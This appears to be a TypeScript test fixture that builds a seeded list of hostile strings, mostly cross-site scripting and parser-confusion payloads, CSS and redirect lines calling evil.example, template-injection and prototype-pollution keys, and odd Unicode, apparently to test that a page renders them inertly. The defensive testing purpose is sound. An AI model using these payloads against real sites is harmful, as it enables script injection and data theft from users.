import fc from "fast-check";

/**
 * More of them, ten to a text, since each text costs a case and its charts: markup that parsers repair into something else,
 * SVG and MathML, attributes, templates, styles, encodings.
 */
const MORE_SPARKS: readonly string[] = [
  '<svg></p><style><a id="</style><img src=1 onerror=globalThis.__hit=20>">',
  '<math><mi//xlink:href="data:x,<script>globalThis.__hit=21</script>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=globalThis.__hit=22>",
  '<noscript><p title="</noscript><img src=x onerror=globalThis.__hit=23>">',
  "<select><template><img src=x onerror=globalThis.__hit=24></template></select>",
  "<table><td background=http://evil.example/h><caption><img src=x onerror=globalThis.__hit=25>",
  "<svg><style><img/src=x onerror=globalThis.__hit=26></style></svg>",
  "<svg><a xlink:href='javascript:globalThis.__hit=27'><text y=20>x</text></a></svg>",
  "<svg><animate onbegin=globalThis.__hit=28 attributeName=x dur=1s>",
  "<svg><set attributeName=href to=javascript:globalThis.__hit=29 begin=0s>",
  "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>globalThis.__hit=30</script></svg>#x\">",
  "<svg><image href=http://evil.example/i.png></svg>",
  "<xmp></xmp><img src=x onerror=globalThis.__hit=31> <plaintext>",
  "<title></title><img src=x onerror=globalThis.__hit=32>",
  "<iframe></iframe><embed src=javascript:globalThis.__hit=33><object data=data:text/html,x>",
  "<img src=x onerror\n=\nglobalThis.__hit=34 <img\tsrc=x\fonerror=globalThis.__hit=35>",
  "<details open ontoggle=globalThis.__hit=36><marquee onstart=globalThis.__hit=37>",
  "<input autofocus onfocus=globalThis.__hit=38><video><source onerror=globalThis.__hit=39>",
  "<body onpageshow=globalThis.__hit=40><html onmouseover=globalThis.__hit=41>",
  "<dialog open><p popover=manual><link rel=preload href=http://evil.example/j as=script>",
  '<script type=importmap>{"imports":{}}</script><script type=speculationrules>{}</script>',
  '<script type="text/plain" id="report-data">{}</script>',
  "</script\t><script>globalThis.__hit=42</script\n>",
  '"+globalThis.__hit=43+"\';globalThis.__hit=44;// */globalThis.__hit=45/*',
  "' onmouseover='globalThis.__hit=46 \" onfocus=\"globalThis.__hit=47 ` x=`",
  "javascript&colon;globalThis.__hit=48 java\tscript:globalThis.__hit=49 \u0001javascript:1",
  "blob:http://evil.example/k filesystem:http://evil.example/l view-source:x",
  "url(http://evil.example/m) image-set('http://evil.example/n' 1x) src(\"http://evil.example/o\")",
  "}body{background:url(//evil.example/p)}@font-face{src:url(//evil.example/q)}",
  "expression(globalThis.__hit=50) -moz-binding:url(//evil.example/r) behavior:url(x)",
  "input[value^=a]{background:url(//evil.example/s)} :has(x) @container x{}",
  "{{7*7}} <%- __hit=51 %> #{__hit=52} [[__hit=53]] {%raw%} ng-app v-html=x :is=x",
  "#main #explorer #case-title id=main name=body <a name=getElementById>",
  "document.cookie location.hash=#case=x/../.. //evil.example/t \\\\evil.example\\u",
  "&#60;img src=x onerror=globalThis.__hit=54&#62; &lt;svg/onload=globalThis.__hit=55&gt;",
  "+ADw-script+AD4-globalThis.__hit=56+ADw-/script+AD4- \u00bcscript\u00be",
  "\u2028globalThis.__hit=57\u2029 \u0000<img src=x onerror=globalThis.__hit=58>",
  "%3Cimg%20src%3Dx%20onerror%3DglobalThis.__hit%3D59%3E %u003cscript%u003e",
  "toString valueOf __defineGetter__ then length 0 -1 NaN undefined null",
  `${"\u0300\u0301".repeat(30)} Z\u0351\u034a`,
];
const GROUPED = [0, 10, 20, 30].map((from) => MORE_SPARKS.slice(from, from + 10).join(" "));

/** Each of these acts in some place of a page if it is more than text there: it sets `__hit`, asks for an address, or adds what is not ours. */
const SPARKS = [
  "<script>globalThis.__hit=1</script>",
  "</script><script>globalThis.__hit=2</script>",
  "<!-- <script> --!> -->",
  '"><img src=x onerror=globalThis.__hit=3>',
  "'><svg onload=globalThis.__hit=4>",
  "javascript:globalThis.__hit=5",
  "{{constructor.constructor('globalThis.__hit=6')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is to look like a template.
  "`${globalThis.__hit=7}` <%= __hit=7 %>",
  "__proto__",
  "constructor",
  "hasOwnProperty",
  "lone \ud800 halves \udc00",
  "\u202eoverride\u202c \u2066isolate \u05e9\u05dc\u05d5\u05dd",
  "zero\u200b\u200d\ufeffwidth \u2028lines\u2029",
  "nul\u0000 bell\u0007 \u001b[31m del\u007f \u0085",
  "]]><![CDATA[ ]]>",
  "<math><mtext><table><mglyph><style><img src=x onerror=globalThis.__hit=8>",
  "<svg><foreignObject><iframe srcdoc='<script>parent.__hit=9</script>'>",
  "</style><style>*{background:url(http://evil.example/a)}</style>",
  "background:url(http://evil.example/b);} @import 'http://evil.example/c';",
  "</title></textarea></noscript></select></svg><img src=http://evil.example/d>",
  "<base href=http://evil.example/><link rel=stylesheet href=http://evil.example/e>",
  "<meta http-equiv=refresh content='0;url=http://evil.example/f'>",
  "<form action=http://evil.example/g><button autofocus onfocus=globalThis.__hit=10>",
  "<template shadowrootmode=open><script>globalThis.__hit=11</script></template>",
  "data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLl9faGl0PTEyPC9zY3JpcHQ+",
  "&lt;script&gt; &#x3c;img src=x&#x3e; &NotEqualTilde;",
  "#case=support-bot/__proto__ %00 %E0%A4%A ?x=1&y=2",
  ...GROUPED,
  "UEsDBBQAAAAIAAAAIQ==".repeat(20),
  `long ${"w".repeat(100_000)}`,
] as const;

const mixed = fc
  .array(fc.oneof(fc.constantFrom(...SPARKS.slice(0, -1)), fc.string({ unit: "binary", maxLength: 20 })), {
    minLength: 2,
    maxLength: 5,
  })
  .map((parts) => parts.join(""));

/** Texts that would act: each by itself, and some dozens mixed of them and of any characters; always the same ones, no two alike. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...new Set<string>([...SPARKS, ...fc.sample(mixed, { seed: 20261121, numRuns: 16 })]),
];
